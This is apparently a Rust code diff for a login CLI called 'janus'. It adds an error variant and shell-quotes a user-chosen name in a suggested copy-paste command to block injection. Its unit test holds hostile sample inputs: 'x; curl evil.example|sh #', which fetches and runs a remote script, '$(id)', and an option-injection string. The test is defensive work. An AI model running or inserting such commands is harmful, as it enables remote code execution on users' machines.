@@ -106,6 +106,9 @@ pub enum NotLoggedIn {
     /// What was granted could not be kept.
     #[error("the login succeeded and cannot be kept: {0}")]
     NotKept(String),
+    /// The disk does not let go of what was granted.
+    #[error("it is logged out, and would be logged in again after a restart: {0}")]
+    NotForgotten(String),
     /// The vault is closed: what was granted could not be kept.
     #[error("the vault is sealed: {0}")]
     Sealed(String),
@@ -131,6 +134,7 @@ impl NotLoggedIn {
             | Self::NoPort { .. }
             | Self::NoListener(_)
             | Self::NotKept(_)
+            | Self::NotForgotten(_)
             | Self::Stopping => "unavailable",
             Self::Unknown(_) => "login_unknown",
             Self::ForeignState | Self::Answered => "foreign_state",
@@ -154,7 +158,9 @@ impl NotLoggedIn {
                         )
                     }
                     Meant::Asked => {
-                        format!("if {was} is right:  janus login {account} --expect {was}")
+                        // Whoever it is chose that name: in a shell it is one word, and no option.
+                        let was = shlex::try_quote(was).unwrap_or_default();
+                        format!("if that is right:  janus login {account} --expect={was}")
                     }
                     Meant::Earlier => format!(
                         "if somebody else is meant from now on:  janus login {account} --replace"
@@ -184,6 +190,9 @@ impl NotLoggedIn {
             Self::ForeignState => {
                 one("paste the address on which the browser of this very login ended".to_owned())
             }
+            Self::NotForgotten(_) => one(format!(
+                "when the disk takes it again:  janus logout {account}"
+            )),
             Self::Sealed(_) | Self::NotKept(_) => one("janus vault status".to_owned()),
             Self::NoListener(_) | Self::Answered | Self::Stopping => Vec::new(),
         }
@@ -202,6 +211,39 @@ impl From<Refused> for NotLoggedIn {
         match refused {
             Refused::Sealed(why) => Self::Sealed(why.to_string()),
             other => Self::NotKept(other.to_string()),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{AccountName, ServerName};
+
+    #[test]
+    fn a_name_that_somebody_chose_is_one_word_of_the_line_to_copy() {
+        let account = AccountId::new(
+            ServerName::new("s").unwrap(),
+            AccountName::new("a").unwrap(),
+        );
+        for was in [
+            "x; curl evil.example|sh #",
+            "$(id)",
+            "--replace",
+            "ana, workspace A",
+            "it's",
+        ] {
+            let wrong = NotLoggedIn::WrongIdentity {
+                account: account.clone(),
+                was: was.to_owned(),
+                is: "ben".to_owned(),
+                by: Meant::Asked,
+            };
+            let help = wrong.help(&account);
+            let (_, line) = help[1].split_once(":  ").unwrap();
+            let words = shlex::split(line).unwrap();
+            assert_eq!(words[..3], ["janus", "login", "s/a"]);
+            assert_eq!(words[3..], [format!("--expect={was}")]);
         }
     }
 }
